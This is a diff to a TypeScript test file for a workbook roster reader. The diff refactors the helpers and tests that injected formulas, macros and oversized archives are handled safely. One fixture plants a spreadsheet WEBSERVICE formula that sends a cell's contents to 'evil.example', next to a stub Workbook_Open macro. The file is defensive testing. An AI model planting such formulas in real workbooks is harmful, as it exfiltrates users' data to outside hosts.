@@ -33,16 +33,20 @@ test('a workbook gives its first sheet with rows, days that can mean one day, an
   expect(two).toMatchObject({ text, sheet: 'Batch' });
 });
 
+const SHEET = 'xl/worksheets/sheet1.xml';
+const PARTS = unzipSync(excelFile({ Batch: [['Name'], ['Asha Rao']] }));
+
+/** A workbook of one trainee, with these parts in it. */
+function workbookWith(parts: Record<string, string | Buffer>): Buffer {
+  const own = Object.entries(PARTS).map(([name, part]) => [name, Buffer.from(part)]);
+  return zip({ ...(Object.fromEntries(own) as Record<string, Buffer>), ...parts });
+}
+
 test('of a formula its last value is read, and a macro is left where it is', async () => {
-  const { 'xl/worksheets/sheet1.xml': sheet, ...parts } = unzipSync(
-    excelFile({ Batch: [['Name'], ['Asha Rao']] }),
-  );
+  const sheet = Buffer.from(PARTS[SHEET] ?? []).toString();
   const formula = '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f>';
-  const workbook = zip({
-    ...Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, Buffer.from(part)])),
-    'xl/worksheets/sheet1.xml': Buffer.from(sheet ?? [])
-      .toString()
-      .replace(/(<c r="A2"[^>]*>)/, `$1${formula}`),
+  const workbook = workbookWith({
+    [SHEET]: sheet.replace(/(<c r="A2"[^>]*>)/, `$1${formula}`),
     'xl/vbaProject.bin': 'Sub Workbook_Open()',
   });
   expect(await readRosterFile(workbook)).toMatchObject({ text: 'Name\nAsha Rao\n' });
@@ -58,7 +62,7 @@ test.each([
   ['half a workbook', excelFile({ A: [['Name'], ['Asha']] }).subarray(0, 900), 'could not be read'],
   [
     'a workbook that unpacks to more than a class needs',
-    zip({ 'xl/workbook.xml': Buffer.alloc(21 * 1024 * 1024) }),
+    workbookWith({ 'xl/media/picture.xml': Buffer.alloc(21 * 1024 * 1024) }),
     'could not be read',
   ],
 ])('%s is refused with what to do', async (_what, file, sentence) => {
